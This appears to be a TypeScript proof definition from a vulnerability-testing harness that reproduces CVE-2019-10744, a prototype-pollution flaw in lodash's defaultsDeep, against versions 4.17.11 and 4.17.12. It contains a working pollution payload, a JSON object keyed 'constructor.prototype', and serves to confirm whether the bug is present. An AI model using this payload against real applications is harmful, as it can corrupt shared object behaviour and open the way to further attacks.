import { defineProof } from '../define-proof.ts';

/** Merges defaults whose key is constructor and looks for their property on a plain object. */
export const lodashDefaultsDeep = defineProof({
  name: 'lodash-defaults-deep',
  ids: ['CVE-2019-10744', 'GHSA-jf85-cpcp-j695'],
  ecosystem: 'npm',
  package: 'lodash',
  kind: 'prototype_pollution',
  describes: 'Merges defaults whose key is constructor and looks for their property on a plain object.',
  shownOn: { vulnerable: '4.17.11', fixed: '4.17.12' },
  source: `
module.exports = ({ load }) => {
  const subject = load();
  const answers = subject.defaultsDeep({ a: 1 }, { b: { c: 2 } }).b.c === 2;
  try {
    subject.defaultsDeep({}, JSON.parse('{"constructor": {"prototype": {"polluted": true}}}'));
  } catch {
    // Refusing is an answer as well.
  }
  const reproduced = ({}).polluted !== undefined;
  return { reproduced, answers };
};
`,
});
